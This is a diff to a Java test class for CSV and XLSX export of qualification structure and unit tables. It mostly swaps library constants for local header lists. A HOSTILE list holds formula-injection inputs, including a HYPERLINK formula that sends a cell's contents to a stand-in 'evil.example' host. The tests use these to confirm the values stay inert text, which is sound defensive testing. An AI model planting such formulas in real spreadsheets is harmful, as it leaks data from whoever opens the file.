@@ -68,6 +68,14 @@ class StructureTablesTest {
 			}
 			""";
 
+	/** The header of the structure table, in the CSV and on the workbook's "Structure" sheet. */
+	private static final List<String> STRUCTURE = List.of("QN", "Group", "Group label", "Group kind", "Unit no",
+			"Sector code", "AO reference", "URN", "Title", "Credits", "Level", "GLH", "Assessment");
+
+	/** The header of the unit list, in its CSV and on the workbook's "Units" sheet. */
+	private static final List<String> UNITS = List.of("URN", "Title", "Level", "Credits", "GLH", "Assessment",
+			"Grade scale", "Learning outcomes", "Assessment criteria", "Library", "Qualifications");
+
 	private static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")", "+1",
 			"-2", "@SUM(A1)", "\tTabbed", "\rReturn");
 
@@ -88,7 +96,7 @@ class StructureTablesTest {
 				"Deliver customer service", "5", "2", "27", "Internal"), first.toList());
 		assertEquals(14, records.stream().filter(r -> r.get("Group").equals("A")).mapToInt(r -> Integer.parseInt(r.get("Credits"))).sum());
 		assertEquals(List.of("A", "B"), records.stream().map(r -> r.get("Group")).distinct().toList());
-		assertEquals(StructureTables.STRUCTURE_COLUMNS, header(csv));
+		assertEquals(STRUCTURE, header(csv));
 	}
 
 	@Test
@@ -110,7 +118,7 @@ class StructureTablesTest {
 		StructureTables.writeUnitsCsv(catalogue, units);
 		List<CSVRecord> unitRows = parse(units.toString());
 		assertEquals(catalogue.units().size(), unitRows.size());
-		assertEquals(StructureTables.UNIT_COLUMNS, header(units.toString()));
+		assertEquals(UNITS, header(units.toString()));
 		CSVRecord deliver = unitRows.stream()
 				.filter(r -> r.get("URN").equals("A/506/2130") && r.get("Library").equals("cfa.customerservice")).findFirst()
 				.orElseThrow();
@@ -158,13 +166,13 @@ class StructureTablesTest {
 		ResolvedQualification sfj = ExportFixtures.qualification(ExportFixtures.SFJ);
 		try (XSSFWorkbook workbook = xlsx(sfj)) {
 			assertEquals(2, workbook.getNumberOfSheets());
-			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
-			Sheet units = workbook.getSheet(StructureTables.UNITS_SHEET);
+			Sheet structure = workbook.getSheet("Structure");
+			Sheet units = workbook.getSheet("Units");
 			assertNotNull(structure);
 			assertNotNull(units);
 
 			Row header = structure.getRow(0);
-			assertEquals(StructureTables.STRUCTURE_COLUMNS, strings(header));
+			assertEquals(STRUCTURE, strings(header));
 			assertTrue(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold(), "bold header");
 			// the header row is frozen (read from the sheet's XML: the API's PaneInformation is in a package this
 			// bundle does not import)
@@ -174,31 +182,31 @@ class StructureTablesTest {
 			assertTrue(pane.group().contains("ySplit=\"1.0\"") && pane.group().contains("state=\"frozen\"")
 					&& pane.group().contains("topLeftCell=\"A2\"") && !pane.group().contains("xSplit=\"1"), pane.group());
 			assertTrue(sheetXml.contains("<autoFilter ref=\"A1:M24\"/>"), "a filter on the header");
-			int titleColumn = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			int titleColumn = STRUCTURE.indexOf("Title");
 			assertTrue(structure.getColumnWidth(titleColumn) > structure.getColumnWidth(0), "widths follow the content");
 
 			assertEquals(23, structure.getLastRowNum());
 			Row first = structure.getRow(1);
-			assertEquals("A/506/2130", first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("URN")).getStringCellValue());
+			assertEquals("A/506/2130", first.getCell(STRUCTURE.indexOf("URN")).getStringCellValue());
 			assertEquals("Deliver customer service", first.getCell(titleColumn).getStringCellValue());
 			for (String numeric : List.of("Credits", "Level", "GLH")) {
-				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(numeric));
+				Cell cell = first.getCell(STRUCTURE.indexOf(numeric));
 				assertEquals(CellType.NUMERIC, cell.getCellType(), numeric);
 			}
-			assertEquals(5, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits")).getNumericCellValue());
-			assertEquals(CellType.STRING, first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("AO reference")).getCellType(),
+			assertEquals(5, first.getCell(STRUCTURE.indexOf("Credits")).getNumericCellValue());
+			assertEquals(CellType.STRING, first.getCell(STRUCTURE.indexOf("AO reference")).getCellType(),
 					"a reference of digits stays text");
 			// the same rows as the CSV
 			StringWriter csv = new StringWriter();
 			StructureTables.writeCsv(sfj, csv);
 			List<CSVRecord> records = parse(csv.toString());
 			for (int r = 0; r < records.size(); r++) {
-				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), StructureTables.STRUCTURE_COLUMNS.size()));
+				assertEquals(records.get(r).toList(), cellTexts(structure.getRow(r + 1), STRUCTURE.size()));
 			}
 
-			assertEquals(StructureTables.UNIT_COLUMNS, strings(units.getRow(0)));
+			assertEquals(UNITS, strings(units.getRow(0)));
 			assertEquals(23, units.getLastRowNum());
-			assertEquals(20, units.getRow(1).getCell(StructureTables.UNIT_COLUMNS.indexOf("Assessment criteria")).getNumericCellValue());
+			assertEquals(20, units.getRow(1).getCell(UNITS.indexOf("Assessment criteria")).getNumericCellValue());
 		}
 	}
 
@@ -209,8 +217,8 @@ class StructureTablesTest {
 		StructureTables.writeXlsx(catalogue, out);
 		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
 			assertEquals(catalogue.qualifications().stream().mapToInt(q -> q.memberships().size()).sum(),
-					workbook.getSheet(StructureTables.STRUCTURE_SHEET).getLastRowNum());
-			assertEquals(catalogue.units().size(), workbook.getSheet(StructureTables.UNITS_SHEET).getLastRowNum());
+					workbook.getSheet("Structure").getLastRowNum());
+			assertEquals(catalogue.units().size(), workbook.getSheet("Units").getLastRowNum());
 			assertNoFormulas(workbook);
 		}
 	}
@@ -219,8 +227,8 @@ class StructureTablesTest {
 	void textThatWouldStartAFormulaStaysTextInXlsx() throws IOException {
 		try (XSSFWorkbook workbook = xlsx(hostile())) {
 			assertNoFormulas(workbook);
-			Sheet structure = workbook.getSheet(StructureTables.STRUCTURE_SHEET);
-			int title = StructureTables.STRUCTURE_COLUMNS.indexOf("Title");
+			Sheet structure = workbook.getSheet("Structure");
+			int title = STRUCTURE.indexOf("Title");
 			for (int i = 0; i < HOSTILE.size(); i++) {
 				Cell cell = structure.getRow(i + 1).getCell(title);
 				assertEquals(CellType.STRING, cell.getCellType());
@@ -233,18 +241,18 @@ class StructureTablesTest {
 			Row first = structure.getRow(1);
 			for (Map.Entry<String, String> expected : Map.of("Group label", "-Mandatory", "AO reference", "=2+3",
 					"Sector code", "@A1").entrySet()) {
-				Cell cell = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf(expected.getKey()));
+				Cell cell = first.getCell(STRUCTURE.indexOf(expected.getKey()));
 				assertEquals(CellType.STRING, cell.getCellType());
 				assertEquals(expected.getValue(), cell.getStringCellValue());
 				assertTrue(cell.getCellStyle().getQuotePrefixed());
 			}
-			Cell credits = first.getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Credits"));
+			Cell credits = first.getCell(STRUCTURE.indexOf("Credits"));
 			assertEquals(CellType.NUMERIC, credits.getCellType());
 			assertEquals(5, credits.getNumericCellValue());
-			assertEquals("Entry", structure.getRow(5).getCell(StructureTables.STRUCTURE_COLUMNS.indexOf("Level")).getStringCellValue());
+			assertEquals("Entry", structure.getRow(5).getCell(STRUCTURE.indexOf("Level")).getStringCellValue());
 
-			Cell unitTitle = workbook.getSheet(StructureTables.UNITS_SHEET).getRow(1)
-					.getCell(StructureTables.UNIT_COLUMNS.indexOf("Title"));
+			Cell unitTitle = workbook.getSheet("Units").getRow(1)
+					.getCell(UNITS.indexOf("Title"));
 			assertEquals(CellType.STRING, unitTitle.getCellType());
 			assertEquals(HOSTILE.get(0), unitTitle.getStringCellValue());
 		}
